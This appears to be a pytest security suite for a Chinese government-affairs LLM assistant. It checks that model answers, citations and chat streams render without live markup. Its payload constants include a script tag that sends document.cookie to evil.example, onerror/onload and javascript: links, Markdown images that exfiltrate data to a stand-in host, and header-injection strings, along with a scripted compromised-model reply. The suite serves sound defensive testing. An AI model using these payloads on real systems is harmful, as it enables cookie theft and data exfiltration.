"""LLM05 输出处理不当: text from documents, models and users rendered by the workbench and sent to chat
clients. The render functions are fed hostile Answers, Citations, Figures and Terms; the output is run
through a Markdown renderer (the chat bubble is Markdown) and an HTML parser, and must carry no executable
markup and no image a browser would fetch from another host."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from assistant.answer.types import Answer, Citation
from assistant.drafting.types import Draft, Paragraph
from assistant.onboarding.glossary import Term
from assistant.onboarding.sources import Source
from assistant.tools.types import Figure
from assistant.ui.answer_view import answer_message, figures_html, sources_html, streaming_message, term_link
from assistant.ui.documents_view import results_html
from assistant.ui.drafting_view import draft_html
from tests.llm.fakes import ScriptedChatModel
from tests.security.conftest import EVIL_HOST, Actor, ask, chat, sse_content

SCRIPT = "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>"
IMG_ONERROR = "<img src=x onerror=alert(1)>"
IFRAME = "<iframe src=javascript:alert(1)></iframe>"
SVG = "<svg onload=alert(1)>"
ANCHOR = '<a href="javascript:alert(1)">点此办理</a>'
ATTR_BREAKOUT = '" onmouseover="alert(1)" x="'
MD_IMAGE = f"![示意图](http://{EVIL_HOST}/leak.png?d=汉阴县外资236.7)"
MD_REF_IMAGE = f"![示意图][1]\n\n[1]: http://{EVIL_HOST}/ref.png"
MD_JS_LINK = "[申报入口](javascript:alert(document.cookie))"
RAW_REMOTE_IMG = f'<img src="http://{EVIL_HOST}/raw.png">'
PRE_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"

DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "svg", "math"}


class _Active(HTMLParser):
    """Collects what a browser would execute or fetch from another host."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value.startswith(
                    ("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag}[{name}={value[:30]}]")
            if tag in ("img", "image", "video", "audio", "source", "input") and name == "src" and value.startswith(
                    ("http:", "https:", "//")):
                self.found.append(f"remote {tag}: {value[:60]}")


def active_markup(html: str) -> list[str]:
    parser = _Active()
    parser.feed(html)
    return parser.found


def as_chat_bubble(markdown: str) -> str:
    """Roughly what gr.Chatbot does with a message: Markdown with inline HTML, links not filtered (the
    browser-side sanitiser is Gradio's business, not a control of ours)."""
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(markdown)


def _answer(text: str) -> Answer:
    return Answer(answer=text)


def _citation(**hostile: str) -> Citation:
    fields = {"n": 1, "title": "关于招商的说明", "doc_number": "安招发〔2023〕1号", "section": "一、总体要求",
              "passage": "坚持服务至上。", "quote": "坚持服务至上。", "source": "/srv/corpus/说明.txt", "start": 0, "end": 7}
    return Citation.model_validate({**fields, **hostile})


def _figure(**hostile: object) -> Figure:
    prov: dict[str, object] = {"table": "indicators", "row_ids": [1], "period": "2023Q1",
                               "formula": "完成进度 = 完成额 ÷ 目标", "files": ["indicators.csv"]}
    prov.update({k: v for k, v in hostile.items() if k in ("formula", "files")})
    base: dict[str, object] = {"label": "汉阴县 外商直接投资", "value": 236.7, "unit": "万美元", "period": "2023Q1"}
    base.update({k: v for k, v in hostile.items() if k in ("label", "unit")})
    return Figure.model_validate({**base, "provenance": prov})


# --- the chat bubble ---------------------------------------------------------------------------------

BUBBLE = [
    pytest.param(SCRIPT, id="LLM05-bubble-script-tag"),
    pytest.param(IMG_ONERROR, id="LLM05-bubble-img-onerror"),
    pytest.param(IFRAME, id="LLM05-bubble-iframe-javascript"),
    pytest.param(SVG, id="LLM05-bubble-svg-onload"),
    pytest.param(ANCHOR, id="LLM05-bubble-raw-anchor-javascript"),
    pytest.param(RAW_REMOTE_IMG, id="LLM05-bubble-raw-remote-img-tag"),
    pytest.param(PRE_ESCAPED, id="LLM05-bubble-pre-escaped-entities-stay-text"),
    pytest.param(MD_IMAGE, id="LLM05-bubble-markdown-image-exfiltration"),
    pytest.param(MD_REF_IMAGE, id="LLM05-bubble-reference-style-markdown-image"),
    pytest.param(MD_JS_LINK, id="LLM05-bubble-markdown-javascript-link"),
    pytest.param("[申报入口](JaVaScRiPt:alert(1))", id="LLM05-bubble-markdown-mixed-case-javascript-link"),
    pytest.param("[申报入口](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                 id="LLM05-bubble-markdown-data-url-link"),
    pytest.param("[申报入口](vbscript:msgbox(1))", id="LLM05-bubble-markdown-vbscript-link"),
    pytest.param("[申报入口](javascript:alert(1)//https://www.gov.cn/)", id="LLM05-bubble-javascript-link-posing-as-web"),
    pytest.param("[申报入口](https://www.gov.cn/\"onmouseover=\"alert(1))", id="LLM05-bubble-web-link-attribute-breakout"),
    pytest.param("<javascript:alert(1)>", id="LLM05-bubble-markdown-autolink-javascript"),
    pytest.param("[申报入口][js]\n\n[js]: javascript:alert(1)", id="LLM05-bubble-reference-style-javascript-link"),
]


@pytest.mark.parametrize("payload", BUBBLE)
def test_the_chat_bubble_carries_no_active_markup(payload: str) -> None:
    shown = as_chat_bubble(answer_message(_answer(f"据文件 [1]：\n{payload}")))
    assert not active_markup(shown), shown


def web_links(html: str) -> list[dict[str, str | None]]:
    """Every <a> of rendered HTML, as its attributes."""
    links: list[dict[str, str | None]] = []

    class _Links(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "a":
                links.append(dict(attrs))

    _Links(convert_charrefs=True).feed(html)
    return links


@pytest.mark.parametrize("text", [
    pytest.param("办事指南见[政务服务网](https://zwfw.shaanxi.gov.cn/)，另见http://www.ankang.gov.cn/zwgk。",
                 id="LLM05-bubble-only-web-links-live-and-opened-safely"),
])
def test_web_links_in_the_bubble_open_safely_and_nothing_else_links(text: str) -> None:
    hostile = f"{text}\n{MD_JS_LINK} [备用](data:text/html,x) [旧版](vbscript:x) {MD_IMAGE}"
    for shown in (answer_message(_answer(hostile)), streaming_message(hostile)):
        links = web_links(as_chat_bubble(shown))
        assert [a["href"] for a in links] == ["https://zwfw.shaanxi.gov.cn/", "http://www.ankang.gov.cn/zwgk"], links
        assert all(a["rel"] == "noopener noreferrer" and a["target"] == "_blank" for a in links)
        assert not active_markup(as_chat_bubble(shown))
        assert "javascript&#58;alert" in shown  # the hostile link is still shown, as text


@pytest.mark.parametrize("payload", [
    pytest.param(MD_JS_LINK, id="LLM05-bubble-citation-marker-next-to-markdown-javascript-link"),
    pytest.param("[1](javascript:alert(1))", id="LLM05-bubble-citation-marker-turned-into-javascript-link"),
    pytest.param(f"[1]: http://{EVIL_HOST}/ref.png\n![x][1]", id="LLM05-bubble-citation-marker-as-link-definition"),
])
def test_citation_links_in_the_bubble_point_only_at_source_cards(payload: str) -> None:
    bubble = answer_message(Answer(answer=f"据文件 [1]：{payload} [2]", citations=[_citation()]), turn=0)
    shown = as_chat_bubble(bubble)
    assert not active_markup(shown), shown
    cites = re.findall(r'<a class="zs-cite zs-cite-turn-0" href="([^"]*)"', shown)
    assert cites and set(cites) == {"#zs-cite-1"}, shown  # [2] names no citation: left as text
    assert shown.count("<a ") == shown.count('<a class="zs-web"') + len(cites)  # no other kind of link


@pytest.mark.parametrize("payload", [
    pytest.param(IMG_ONERROR, id="LLM05-streaming-bubble-img-onerror"),
    pytest.param(MD_IMAGE, id="LLM05-streaming-bubble-markdown-image"),
])
def test_the_bubble_while_streaming_carries_no_active_markup(payload: str) -> None:
    shown = as_chat_bubble(streaming_message(f"【政策与文件依据】\n· 据文件：{payload}"))
    assert not active_markup(shown), shown


@pytest.mark.parametrize("payload", [
    pytest.param(IMG_ONERROR, id="LLM05-glossary-popup-definition-markup"),
    pytest.param(MD_IMAGE, id="LLM05-glossary-popup-definition-markdown-image"),
])
def test_glossary_popups_in_the_bubble_are_inert(payload: str) -> None:
    source = Source(title=f"手册{payload}", file_name="手册.md", quote=f"项目管家是指{payload}", start=0, end=10)
    term = Term(term="项目管家", definition=f"项目管家是指{payload}", source=source)
    bubble = answer_message(_answer("推行项目管家制度。"), [term])
    assert "zs-term" in bubble  # the term was linked …
    assert not active_markup(as_chat_bubble(bubble))  # … and nothing in its popup is live
    assert term_link("项目管家", term) in bubble


# --- the sources panel, figures table, warnings (gr.HTML) -------------------------------------------------

SOURCES = [
    pytest.param({"passage": f"坚持服务至上。{SCRIPT}", "quote": "坚持服务至上。"}, id="LLM05-sources-passage-script"),
    pytest.param({"passage": f"坚持{IMG_ONERROR}服务至上。", "quote": f"坚持{IMG_ONERROR}服务至上。"},
                 id="LLM05-sources-highlighted-quote-markup"),
    pytest.param({"title": f"说明{IMG_ONERROR}"}, id="LLM05-sources-document-title"),
    pytest.param({"section": f"一、{SVG}"}, id="LLM05-sources-section-path"),
    pytest.param({"doc_number": ANCHOR}, id="LLM05-sources-document-number"),
    pytest.param({"source": f"/srv/{IMG_ONERROR}.txt"}, id="LLM05-sources-file-name"),
]


@pytest.mark.parametrize("hostile", SOURCES)
def test_the_sources_panel_is_inert(hostile: dict[str, str]) -> None:
    answer = Answer(answer="见 [1]。", citations=[_citation(**hostile)])
    html = sources_html(answer)
    assert not active_markup(html), html
    assert "&lt;" in html  # the text is shown, escaped, not dropped


@pytest.mark.parametrize("hostile", [
    pytest.param({"label": f"汉阴县{SCRIPT}"}, id="LLM05-figures-label-script"),
    pytest.param({"formula": ATTR_BREAKOUT}, id="LLM05-figures-formula-attribute-breakout"),
    pytest.param({"files": [f"{IMG_ONERROR}.csv"]}, id="LLM05-figures-imported-file-name"),
    pytest.param({"unit": SVG}, id="LLM05-figures-unit"),
])
def test_the_figures_table_is_inert(hostile: dict[str, object]) -> None:
    html = figures_html(Answer(answer="", figures=[_figure(**hostile)]))
    assert not active_markup(html), html
    assert "zs-figures" in html


@pytest.mark.parametrize("warning", [pytest.param(f"请核对：{IMG_ONERROR}", id="LLM05-warnings-list-markup")])
def test_warnings_are_inert(warning: str) -> None:
    html = sources_html(Answer(answer="", warnings=[warning]))
    assert "zs-warnings" in html and not active_markup(html)


@pytest.mark.parametrize("where", [
    pytest.param("paragraph", id="LLM05-draft-preview-paragraph-text"),
    pytest.param("title", id="LLM05-draft-preview-title"),
])
def test_the_draft_preview_is_inert(where: str) -> None:
    draft = Draft(kind="reply", title=f"关于{IMG_ONERROR}的答复" if where == "title" else "关于某事的答复",
                  paragraphs=[Paragraph(text=f"正文{SCRIPT}" if where == "paragraph" else "正文。")])
    html = draft_html(draft)
    assert not active_markup(html), html


@pytest.mark.parametrize("name", [pytest.param(f"{SVG}.txt", id="LLM05-upload-results-file-name")])
def test_upload_results_are_inert(name: str) -> None:
    html = results_html([(name, "failed", f"无法读取文件“{name}”")])
    assert not active_markup(html), html


# --- end to end: a document with hostile content, asked about, rendered ---------------------------------

@pytest.mark.parametrize("question", [
    pytest.param("展板二维码说明", id="LLM05-e2e-ingested-html-payload-rendered-inert"),
])
def test_an_ingested_html_payload_is_quoted_but_never_live(client: TestClient, actors: dict[str, Actor],
                                                           question: str) -> None:
    answer = Answer.model_validate(ask(client, actors["staff"], question))
    assert "onerror" in answer.answer  # the grounded answer quotes the hostile passage …
    bubble = as_chat_bubble(answer_message(answer))
    panel = sources_html(answer)
    assert not active_markup(panel)  # … inert in the sources panel …
    assert not [a for a in active_markup(bubble) if a.startswith("<") or "[on" in a]  # … and as HTML in the bubble


@pytest.mark.parametrize("question", [
    pytest.param("宣传展板示意图在哪里？", id="LLM05-e2e-ingested-markdown-image-rendered-in-bubble"),
])
def test_an_ingested_markdown_image_is_not_fetched_by_the_bubble(client: TestClient, actors: dict[str, Actor],
                                                                 question: str) -> None:
    answer = Answer.model_validate(ask(client, actors["staff"], question))
    assert "展板示意图" in answer.answer
    assert not active_markup(as_chat_bubble(answer_message(answer)))


# --- chat clients of the OpenAI-compatible endpoint render Markdown too --------------------------------

@pytest.mark.parametrize("stream", [
    pytest.param(False, id="LLM05-openai-content-markdown-image-from-document"),
    pytest.param(True, id="LLM05-openai-sse-markdown-image-from-document"),
])
def test_openai_clients_get_no_live_markdown_from_a_document(client: TestClient, actors: dict[str, Actor],
                                                             stream: bool) -> None:
    body = chat(client, actors["staff"], [{"role": "user", "content": "宣传展板示意图在哪里？展板申报入口在哪？"}],
                stream=stream)
    content = sse_content(body) if stream else json.loads(body)["choices"][0]["message"]["content"]
    assert "展板示意图" in content
    shown = as_chat_bubble(content)
    assert not active_markup(shown), shown
    assert "<a href" not in shown


@pytest.mark.parametrize("stream", [
    pytest.param(True, id="LLM05-openai-sse-model-streams-markdown-image-in-pieces"),
    pytest.param(False, id="LLM05-openai-content-model-writes-markdown-image"),
])
def test_what_a_talked_into_model_writes_reaches_chat_clients_inert(
        llm_client: TestClient, scripted: ScriptedChatModel, actors: dict[str, Actor], stream: bool) -> None:
    reply = f"展板示意图见{MD_IMAGE}，入口见{MD_JS_LINK}。\n{RAW_REMOTE_IMG}{IMG_ONERROR}"
    scripted.script[:] = [reply]  # streamed three characters at a time: syntax is split across chunks
    body = chat(llm_client, actors["staff"], [{"role": "user", "content": "展板在哪？"}], stream=stream)
    content = sse_content(body) if stream else json.loads(body)["choices"][0]["message"]["content"]
    shown = as_chat_bubble(content)
    assert not active_markup(shown), shown
    assert "<a href" not in shown
    assert content.replace("\\", "").startswith(reply)  # nothing dropped: the text is shown as text


@pytest.mark.parametrize("channel", [
    pytest.param("sse", id="LLM05-document-text-cannot-end-the-sse-stream-early"),
    pytest.param("ndjson", id="LLM05-document-text-cannot-forge-ndjson-events"),
])
def test_quoted_text_cannot_break_the_stream_framing(client: TestClient, actors: dict[str, Actor],
                                                     channel: str) -> None:
    question = "展板传输格式示例是什么？"
    if channel == "sse":
        body = chat(client, actors["staff"], [{"role": "user", "content": question}], stream=True)
        assert "data: [DONE]" in sse_content(body)  # the quoted text is in the content …
        events = [line for line in body.split("\n\n") if line.strip()]
        assert [e for e in events if e == "data: [DONE]"] == [events[-1]]  # … but only one real end
        assert all(json.loads(e[6:]) for e in events[:-1])
    else:
        r = client.post("/api/ask/stream", json={"question": question}, headers=actors["staff"].headers)
        lines = [json.loads(line) for line in r.text.splitlines() if line.strip()]
        assert "data: [DONE]" in lines[-1]["answer"]["answer"]
        assert [x["type"] for x in lines].count("answer") == 1 and lines[-1]["type"] == "answer"


@pytest.mark.parametrize("title", [
    pytest.param("报告\r\nSet-Cookie: zs_session=attacker", id="LLM05-docx-export-title-header-injection"),
    pytest.param('报告"; filename="../../evil.exe', id="LLM05-docx-export-title-filename-breakout"),
])
def test_a_draft_title_cannot_inject_response_headers(client: TestClient, actors: dict[str, Actor],
                                                      title: str) -> None:
    draft = {"kind": "report", "title": title, "paragraphs": [{"text": "正文。"}]}
    r = client.post("/api/draft/export", json=draft, headers=actors["staff"].headers)
    assert r.status_code == 200, r.text[:200]
    disposition = r.headers["content-disposition"]
    assert "set-cookie" not in {k.lower() for k in r.headers}
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment; filename=draft.docx; filename*=UTF-8''")
    assert '"' not in disposition.split("filename*=", 1)[1] and "/" not in disposition.split("filename*=", 1)[1]
